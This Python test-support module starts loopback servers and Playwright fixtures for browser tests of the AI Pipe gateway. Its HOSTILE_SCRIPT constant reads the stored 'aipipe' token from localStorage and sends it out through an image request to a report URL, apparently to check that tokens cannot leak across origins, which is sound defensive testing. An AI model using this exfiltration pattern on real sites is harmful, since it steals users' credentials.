"""Servers for the browser tests, run on a background thread's own event loop (Playwright's sync API owns the main one).

The gateway (SQLite), the fake upstream, the fake Google certificate endpoint and a third-party app page each get a
loopback port. The app page is the README's developer-guide snippet with only its base URL changed.
"""
from __future__ import annotations

import asyncio
import re
import threading
from pathlib import Path

import orjson
import pytest
import tornado.httpserver
import tornado.testing
import tornado.web
from playwright.sync_api import expect

from aipipe.config import build_config
from aipipe.gateway import Gateway
from aipipe.server import make_app
from aipipe.storage import open_store

from .conftest import ENV, base_config, token
from .fake_google import CLIENT_ID, credential, make_certs_app
from .fake_upstream import FakeState, make_fake_app

# Playwright's expect() waits 5 s by default, and a context's default timeout does not reach it: too little for a
# loaded CI machine. Set here, on import, so every browser test module (they all import this one) gets it.
EXPECT_TIMEOUT_MS = 20_000
expect.set_options(timeout=EXPECT_TIMEOUT_MS)

CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                 "--disable-component-update", "--disable-sync", "--no-first-run"]
OUTPUT = Path(__file__).resolve().parent.parent / "test-output"
# Anything but loopback; the Google script is answered by gis_stub, everything else refused
NOT_LOOPBACK = re.compile(r"^https?://(?!(127\.0\.0\.1|localhost)[:/]).*")

# Verbatim from the original AI Pipe README's Developer Guide (https://github.com/sanand0/aipipe)
README_SNIPPET = """<script type="module">
  import { getProfile } from "https://aipipe.org/aipipe.js";

  const { token, email } = getProfile();
  if (!token) window.location = `https://aipipe.org/login?redirect=${window.location.href}`;

  const response = await fetch("https://aipipe.org/openrouter/v1/chat/completions", {
    method: "POST",
    headers: { Authorization: `Bearer ${token}`, "Content-Type": "application/json" },
    body: JSON.stringify({
      model: "openai/gpt-4o-mini",
      messages: [{ role: "user", content: "What is 2 + 2?" }],
    }),
  }).then((r) => r.json());
  console.log(response);
</script>
"""


def gis_stub(credential: str) -> str:
    """JavaScript standing in for https://accounts.google.com/gsi/client: its button hands back `credential`."""
    return """
window.google = { accounts: { id: {
  initialize(config) { this.config = config; },
  renderButton(parent) {
    const button = document.createElement("button");
    button.type = "button";
    button.id = "fake-google-signin";
    button.textContent = "Sign in with Google";
    button.addEventListener("click", () => this.config.callback({ credential: CREDENTIAL, select_by: "btn" }));
    parent.append(button);
  },
  prompt() {},
  disableAutoSelect() {},
} } };
""".replace("CREDENTIAL", orjson.dumps(credential).decode())


class AppPage(tornado.web.RequestHandler):
    """Any path: the README snippet (or a blank page at /blank.html, or a page a test put in `pages` for its
    path), recording every URL asked for."""

    def initialize(self, html: str, seen: list, pages: dict) -> None:
        self.html, self.seen, self.pages = html, seen, pages

    def get(self) -> None:
        self.seen.append(self.request.uri)
        self.set_header("Content-Type", "text/html; charset=utf-8")
        if self.request.path in self.pages:
            self.finish(self.pages[self.request.path])
        else:
            self.finish("<!doctype html><title>blank</title>" if self.request.path == "/blank.html" else self.html)


# A script that reads AI Pipe's stored token from whatever origin it runs on and reports it to the app server
HOSTILE_SCRIPT = """(() => {
  let v;
  try { v = localStorage.getItem("aipipe") || "nothing"; } catch (e) { v = "refused: " + e.name; }
  document.title = "read: " + v;
  new Image().src = "REPORT?v=" + encodeURIComponent(v);
})()"""


class HostilePage(tornado.web.RequestHandler):
    """/hostile/{html,plain,untyped}: a page running HOSTILE_SCRIPT, as HTML, as text/plain or with no type;
    /report records what such a script sent."""

    def initialize(self, reports: list) -> None:
        self.reports = reports

    def get(self, what: str) -> None:
        if what == "report":
            self.reports.append(self.get_query_argument("v"))
            self.finish("")
            return
        script = HOSTILE_SCRIPT.replace("REPORT", f"http://127.0.0.1:{self.request.host.rsplit(':', 1)[1]}/report")
        self.set_header("Content-Type", {"html": "text/html; charset=utf-8", "plain": "text/plain"}.get(what, ""))
        if what == "untyped":
            self.clear_header("Content-Type")
        self.finish(f"<!doctype html><title>hostile</title><h1>hostile</h1><script>{script}</script>")


class LiveServers:
    """Start with `with LiveServers(tmp_dir) as live:`; `live.run(coro)` runs a coroutine on the servers' loop."""

    def __init__(self, tmp_dir: str):
        self.tmp_dir = tmp_dir
        self.fake = FakeState()
        self.google = {"fetches": 0}
        self.app_requests: list[str] = []
        self.app_pages: dict[str, str] = {}  # path -> the HTML the app server answers there
        self.reports: list[str] = []  # what HOSTILE_SCRIPT managed to send
        self._ready = threading.Event()
        self._error: BaseException | None = None
        self._servers: list = []

    def _listen(self, app) -> int:
        sock, port = tornado.testing.bind_unused_port()
        server = tornado.httpserver.HTTPServer(app)
        server.add_sockets([sock])
        self._servers.append(server)
        return port

    async def _start(self) -> None:
        upstream = f"http://127.0.0.1:{self._listen(make_fake_app(self.fake))}"
        self.google["url"] = f"http://127.0.0.1:{self._listen(make_certs_app(self.google))}/oauth2/v1/certs"
        data = base_config(upstream, f"sqlite:///{self.tmp_dir}/aipipe.db")
        data["auth"] = {**data["auth"], "google_client_id": CLIENT_ID, "google_certs_url": self.google["url"],
                        "redirect_origins": ["http://localhost:*"]}
        data["proxy"] = {"allow_private": True}  # /proxy may fetch the app server's pages on loopback
        config = build_config(data, ENV)
        self.store = await open_store(config.get("storage.url"))
        self.gateway = Gateway(config, self.store)
        await self.gateway.start()
        gw_port = self._listen(make_app(self.gateway))
        self.url = f"http://127.0.0.1:{gw_port}"
        html = README_SNIPPET.replace("https://aipipe.org", self.url)
        app_port = self._listen(tornado.web.Application([
            (r"/(?:hostile/)?(html|plain|untyped|report)", HostilePage, {"reports": self.reports}),
            (r"/.*", AppPage, {"html": html, "seen": self.app_requests, "pages": self.app_pages})]))
        self.app_port = app_port

    async def _stop(self) -> None:
        for server in self._servers:
            server.stop()
        await self.gateway.close()
        await self.store.close()

    def _thread(self) -> None:
        self.loop = asyncio.new_event_loop()
        asyncio.set_event_loop(self.loop)
        try:
            self.loop.run_until_complete(self._start())
        except BaseException as e:  # surfaced by __enter__
            self._error = e
            self._ready.set()
            return
        self._ready.set()
        self.loop.run_forever()
        self.loop.run_until_complete(self._stop())
        self.loop.close()

    def __enter__(self) -> "LiveServers":
        self._worker = threading.Thread(target=self._thread, name="live-servers", daemon=True)
        self._worker.start()
        self._ready.wait(30)
        if self._error:
            raise self._error
        return self

    def __exit__(self, *exc) -> None:
        self.loop.call_soon_threadsafe(self.loop.stop)
        self._worker.join(30)

    def run(self, coro, timeout: float = 10):
        """Run a coroutine on the servers' loop and return its result."""
        return asyncio.run_coroutine_threadsafe(coro, self.loop).result(timeout)

    def app_url(self, host: str, path: str) -> str:
        """A URL of the third-party app, on 127.0.0.1 (needs consent) or localhost (allow-listed)."""
        return f"http://{host}:{self.app_port}{path}"


@pytest.fixture(scope="module")
def live(tmp_path_factory):
    with LiveServers(str(tmp_path_factory.mktemp("browser"))) as servers:
        yield servers


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright
    with sync_playwright() as p:
        chromium = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS, headless=True)
        yield chromium
        chromium.close()


@pytest.fixture
def open_page(browser, request):
    """open_page(email, width=None) -> a page in a fresh profile whose Google button signs in as email, `width` px
    wide if given; it collects page errors (.errors) and console errors (.console_errors); screenshots on failure."""
    pages = []

    def open_as(email: str = "user@example.com", width: int | None = None):
        context = browser.new_context(viewport={"width": width, "height": 900} if width else None)
        context.set_default_timeout(EXPECT_TIMEOUT_MS)
        context.route(NOT_LOOPBACK, lambda route: route.abort())
        context.route("https://accounts.google.com/gsi/client",
                      lambda route: route.fulfill(content_type="text/javascript", body=gis_stub(credential(email))))
        page = context.new_page()
        page.errors, page.console_errors = [], []
        page.on("pageerror", lambda error: page.errors.append(str(error)))
        page.on("console", lambda message: message.type == "error" and page.console_errors.append(message.text))
        pages.append(page)
        return page

    failed_before = request.session.testsfailed
    yield open_as
    if request.session.testsfailed > failed_before:
        for i, page in enumerate(pages):
            screenshot(page, f"{request.node.name}-{i}")
    for page in pages:
        page.context.close()


def screenshot(page, name: str) -> Path:
    """Save the whole page as test-output/<name>.png."""
    OUTPUT.mkdir(exist_ok=True)
    path = OUTPUT / f"{re.sub(r'[^A-Za-z0-9_.-]+', '-', name)}.png"
    page.screenshot(path=str(path), full_page=True)
    return path


def signed_in(page, live, email: str, tok: str | None = None) -> None:
    """Store a token for email in the gateway origin's localStorage, as /login would."""
    page.goto(live.url + "/static/app.css")
    page.evaluate("([t, e]) => localStorage.setItem('aipipe', JSON.stringify({token: t, email: e}))",
                  [tok or token(email), email])


def wait_for(page, predicate, tries: int = 400) -> None:
    """Poll predicate every 50 ms of the page's own clock (which lets Playwright deliver its events), `tries` times."""
    for _ in range(tries):
        if predicate():
            return
        page.wait_for_timeout(50)
    raise AssertionError("timed out waiting")
